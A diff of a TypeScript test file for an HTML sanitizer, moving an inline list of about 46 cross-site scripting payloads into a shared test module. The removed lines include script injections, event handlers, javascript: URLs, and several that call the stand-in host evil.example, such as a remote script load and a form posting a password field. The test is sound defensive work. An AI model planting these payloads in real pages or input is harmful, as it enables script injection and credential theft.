@@ -1,68 +1,19 @@
 import assert from 'node:assert/strict'
 import { test } from 'node:test'
+import { htmlAttacks } from '../../test/html-attacks.ts'
 import { cleanHtml, imagesIn, plainTextOf, shownHtml } from './clean-html.ts'
 
 const image = `/uploads/${'0a'.repeat(16)}-960.webp`
-
-/** Texts that try to run a script, to load something or to change the page around them. */
-const payloads: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
-  '<script\n>alert(1)</script\n>',
-  '<scr<script>ipt>alert(1)</scr</script>ipt>',
-  '<img src=x onerror=alert(1)>',
-  '<img src="https://evil.example/pixel.gif">',
-  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
-  `<img src="${image}" onload="alert(1)" style="position:fixed">`,
-  `<img src="${image}" srcset="https://evil.example/a.png 1x">`,
-  `<img src="${image}"><img src="/uploads/../api/users">`,
-  '<svg onload=alert(1)>',
-  '<svg><script>alert(1)</script></svg>',
-  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
-  '<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)></style></mglyph></math>',
-  '<iframe src="javascript:alert(1)"></iframe>',
-  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
-  '<object data="javascript:alert(1)"></object>',
-  '<embed src="javascript:alert(1)">',
-  '<a href="javascript:alert(1)">x</a>',
-  '<a href="JaVaScRiPt:alert(1)">x</a>',
-  '<a href="java\nscript:alert(1)">x</a>',
-  '<a href="&#106;avascript:alert(1)">x</a>',
-  '<a href=" javascript:alert(1)">x</a>',
-  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
-  '<a href="vbscript:msgbox(1)">x</a>',
-  '<a href="//evil.example">x</a>',
-  '<a href="http://evil.example">x</a>',
-  '<a href="https://salon.example@evil.example/">x</a>',
-  '<a href="https://ok.example" onclick="alert(1)" target="_blank">x</a>',
-  '<p onmouseover="alert(1)">x</p>',
-  '<p style="background:url(javascript:alert(1))">x</p>',
-  '<p id="main" class="dialog" name="x">x</p>',
-  '<body onload=alert(1)>',
-  '<form action="https://evil.example"><input name=password><button>ok</button></form>',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
-  '<link rel="stylesheet" href="https://evil.example/x.css">',
-  '<base href="https://evil.example/">',
-  '<style>@import "https://evil.example/x.css"</style>',
-  '<details open ontoggle=alert(1)>',
-  '<video><source onerror=alert(1)></video>',
-  '<template><script>alert(1)</script></template>',
-  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-  '<textarea><script>alert(1)</script></textarea>',
-  '<!--><script>alert(1)</script>-->',
-  '<![CDATA[<script>alert(1)</script>]]>',
-  '<p>x</p\u0000><script>alert(1)</script>',
-]
 
 /** Only these elements, with these attributes. */
 const element =
   /^<(?:(\/?)(?:h[1-6]|p|ul|li|blockquote|strong|em|u|s|code|pre|a|ol)|br ?\/?|hr ?\/?|a href="https:\/\/[^"]*" rel="noopener"|ol start="\d+"|img (?:(?:src|alt|width|height|srcset|sizes|loading)="[^"]*" ?)+\/?)>$/
 
-test('at least forty attacks', () => assert.ok(payloads.length >= 40))
+test('at least forty attacks', () => assert.ok(htmlAttacks.length >= 40))
 
 /** Neither a script, nor a handler, nor an address of another kind. */
 function assertHarmless(clean: (html: string) => string): void {
-  for (const payload of payloads) {
+  for (const payload of htmlAttacks) {
     const html = clean(`<p>avant</p>${payload}<p>après</p>`)
     for (const [tag] of html.matchAll(/<[^>]*>/g)) assert.match(tag, element, `${payload} → ${html}`)
     const tags = html.replaceAll(/>[^<]*</g, '><')
@@ -77,7 +28,7 @@ test('no script, no handler and no foreign address is shown, whatever was saved'
   assertHarmless(shownHtml))
 
 test('cleaned HTML is not changed by cleaning it again', () => {
-  for (const payload of payloads) {
+  for (const payload of htmlAttacks) {
     const once = cleanHtml(payload)
     assert.equal(cleanHtml(once), once, payload)
   }
